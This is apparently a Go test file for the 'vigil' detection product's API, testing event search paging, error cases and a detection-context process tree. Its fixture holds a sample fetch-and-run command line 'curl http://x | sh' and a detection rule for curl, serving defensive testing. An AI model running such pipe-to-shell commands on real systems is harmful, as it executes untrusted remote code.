package api_test

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/vigil-sec/vigil/internal/detect"
	"github.com/vigil-sec/vigil/internal/engine"
	"github.com/vigil-sec/vigil/internal/event"
	"github.com/vigil-sec/vigil/internal/local"
	"github.com/vigil-sec/vigil/internal/search"
)

// searchServer serves the API as vigil local does (localAPI), with a lake of
// one sensor's processes (searchLake); a detection d-curl names curl's exec.
func searchServer(t *testing.T) *httptest.Server {
	t.Helper()
	s, st := localAPI(t)
	dir, curl := searchLake(t)
	rule, err := engine.Parse("curl_pipe.yaml", []byte("detection:\n  event: NEW_PROCESS\n  op: contains\n  path: event/COMMAND_LINE\n  value: curl\nresponse:\n  - action: report\n    name: curl_pipe\n"))
	if err != nil {
		t.Fatal(err)
	}
	d := detect.New(rule, &curl)
	d.ID = "d-curl"
	if _, err := st.Claim(context.Background(), []detect.Detection{d}); err != nil {
		t.Fatal(err)
	}
	s.Events = &search.Results{Searcher: &search.Lake{Dir: dir}, PageSize: 2}
	srv := httptest.NewServer(s.Handler())
	t.Cleanup(srv.Close)
	return srv
}

// searchLake writes a lake of one sensor's (s0) processes, from 10:00 on
// 2026-11-22: bash (pid 20) runs curl (30), which runs sh (40), and top (50)
// runs beside them. It returns the lake's directory and curl's exec.
func searchLake(t testing.TB) (string, event.Event) {
	t.Helper()
	ctx := context.Background()
	t0 := time.Date(2026, 11, 22, 10, 0, 0, 0, time.UTC)
	at := func(d time.Duration) int64 { return t0.Add(d).UnixNano() }
	proc := func(id string, d time.Duration, pid, ppid uint32, path, cmd string) event.Event {
		return event.Event{ID: id, SensorID: "s0", Type: event.NewProcess, TimeNanos: at(d), PID: pid, PPID: ppid,
			ProcessStartTime: at(d), FilePath: path, CommandLine: cmd, User: "root"}
	}
	curl := proc("e-curl", time.Minute, 30, 20, "/usr/bin/curl", "curl http://x | sh")
	curl.SetAncestors([]event.Ancestor{{PID: 20, Path: "/bin/bash", CommandLine: "bash", User: "root"}, {PID: 1, Path: "/sbin/init", User: "root"}})
	dns := curl
	dns.ID, dns.Type, dns.TimeNanos, dns.DomainName = "e-dns", event.DNSRequest, at(2*time.Minute), "x.example.com"
	evs := []event.Event{proc("e-bash", 0, 20, 1, "/bin/bash", "bash"), curl, dns,
		proc("e-sh", 3*time.Minute, 40, 30, "/bin/sh", "sh"), proc("e-other", 3*time.Minute, 50, 1, "/usr/bin/top", "top")}
	w := event.NewFileWriter()
	if err := w.Write(evs); err != nil {
		t.Fatal(err)
	}
	data, err := w.Close()
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	if err := (&local.Lake{Dir: dir}).Put(ctx, event.LakeKey("s0", t0, event.NewID(t0)), data); err != nil {
		t.Fatal(err)
	}
	return dir, curl
}

func eventIDs(t *testing.T, v any) []string {
	t.Helper()
	var out []string
	for _, e := range v.([]any) {
		out = append(out, e.(map[string]any)["routing"].(map[string]any)["event_id"].(string))
	}
	return out
}

func TestSearchRoutes(t *testing.T) {
	srv := searchServer(t)
	viewer := "Bearer viewer"
	status, out := do(t, srv, "POST", "/v1/orgs/acme/events/search", viewer,
		`{"where": "{op: is, path: event/USER, value: root}", "since": "2h", "sensor": "s0"}`)
	if status != http.StatusAccepted || out["id"] == "" {
		t.Fatalf("start: %d %v", status, out)
	}
	id := out["id"].(string)
	var got []string
	cursor := ""
	for page := 0; ; page++ {
		status, out = do(t, srv, "GET", "/v1/orgs/acme/events/search/"+id+"?cursor="+cursor, viewer, "")
		if status != http.StatusOK || out["state"] != "succeeded" {
			t.Fatalf("page %d: %d %v", page, status, out)
		}
		got = append(got, eventIDs(t, out["events"])...)
		if cursor = out["next_cursor"].(string); cursor == "" {
			break
		}
	}
	if want := "e-bash e-curl e-dns e-sh e-other"; strings.Join(got, " ") != want {
		t.Errorf("events %v, want %s", got, want)
	}
	if st := out["stats"].(map[string]any); st["matched"] != float64(5) || st["scanned"] != float64(5) {
		t.Errorf("stats %v", st)
	}

	for _, tc := range []struct {
		method, path, key, body string
		status                  int
		want                    string
	}{
		{"POST", "/v1/orgs/acme/events/search", viewer, `{"where": "{op: is, path: event/USR, value: root}"}`, 400, `unknown path "event/USR"`},
		{"POST", "/v1/orgs/acme/events/search", viewer, `{"since": "yesterday"}`, 400, `since "yesterday"`},
		{"POST", "/v1/orgs/acme/events/search", viewer, `{"until": "2026-11-22T08:00:00Z", "since": "2026-11-22T09:00:00Z"}`, 400, "is not after since"},
		{"POST", "/v1/orgs/acme/events/search", viewer, `{"limit": -1}`, 400, "limit -1"},
		{"POST", "/v1/orgs/acme/events/search", "Bearer sensor", `{}`, 403, ""},
		{"GET", "/v1/orgs/acme/events/search/q-99", viewer, "", 404, "unknown search"},
		{"GET", "/v1/orgs/acme/events/search/" + id + "?cursor=zz", viewer, "", 400, `invalid cursor "zz"`},
		{"GET", "/v1/orgs/acme/detections/d-curl/context?minutes=0", viewer, "", 400, "minutes"},
		{"GET", "/v1/orgs/acme/detections/nope/context", viewer, "", 404, ""},
	} {
		status, out := do(t, srv, tc.method, tc.path, tc.key, tc.body)
		if status != tc.status || !strings.Contains(fmt.Sprint(out["error"]), tc.want) {
			t.Errorf("%s %s %s: %d %v, want %d %q", tc.method, tc.path, tc.body, status, out, tc.status, tc.want)
		}
	}
}

func TestDetectionContextRoute(t *testing.T) {
	srv := searchServer(t)
	status, out := do(t, srv, "GET", "/v1/orgs/acme/detections/d-curl/context?minutes=3", "Bearer viewer", "")
	if status != http.StatusOK {
		t.Fatalf("%d %v", status, out)
	}
	if out["detection_id"] != "d-curl" || out["from"] != "2026-11-22T09:58:00Z" || out["to"] != "2026-11-22T10:04:00Z" || out["truncated"] != false {
		t.Errorf("context %v", out)
	}
	if got := strings.Join(eventIDs(t, out["events"]), " "); got != "e-bash e-curl e-dns e-sh" {
		t.Errorf("events %s", got)
	}
	// init (from the ancestry) > bash > curl (the detection) > sh
	var path []string
	n := out["tree"].(map[string]any)
	for {
		path = append(path, fmt.Sprintf("%v:%v:%v:%v", n["pid"], n["path"], n["events"], n["detection"]))
		kids := n["children"].([]any)
		if len(kids) == 0 {
			break
		}
		if len(kids) != 1 {
			t.Fatalf("node %v has %d children", n["pid"], len(kids))
		}
		n = kids[0].(map[string]any)
	}
	if got := strings.Join(path, " > "); got != "1:/sbin/init:0:false > 20:/bin/bash:1:false > 30:/usr/bin/curl:2:true > 40:/bin/sh:1:false" {
		t.Errorf("tree %s", got)
	}
}
